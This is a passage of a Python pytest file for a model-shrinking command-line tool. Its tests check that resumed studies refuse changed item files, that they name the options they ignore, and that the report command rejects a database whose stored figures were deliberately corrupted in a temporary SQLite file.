    again = shrink(*options, "--objectives", "arc_easy,block_params", "--resume", "--json").json
    assert again["front"] == front
    file = tmp_path / "easy.jsonl"
    file.write_text(file.read_text(encoding="utf-8").replace("1984", "1985"), encoding="utf-8")
    shrink(*options, "--objectives", "arc_easy,block_params", "--resume").refused(2, "items", "changed", "easy.jsonl")


def test_options_that_a_resumed_study_does_not_follow_are_named(shrink):
    assert shrink("--max-block-params", "0.8x").code == 0
    again = shrink("--max-block-params", "0.7x", "--seed", 3, "--resume")
    assert again.code == 0, again.err
    assert "keeps the settings it was started with and ignores --max-block-params, --seed: to use them" in again.err
    same = shrink("--max-block-params", "0.8x", "--quantized", "Q8_0", "--resume")
    assert "ignores" not in same.err


@pytest.mark.parametrize("value", ["json('[1]')", "'many'", "1e999", "json('true')"])
def test_figures_that_are_none_are_not_drawn(shrink, mimar, tmp_path, value):
    assert shrink("--max-block-params", "0.8x").code == 0
    with closing(sqlite3.connect(tmp_path / "s.db")) as database, database:
        change = f"json_set(body, '$.parent.bytes', {value})"
        assert database.execute(f"UPDATE events SET body = {change} WHERE kind = 'measured'").rowcount == 1
    mimar("report", tmp_path / "s.db").refused(3, "s.db is damaged")
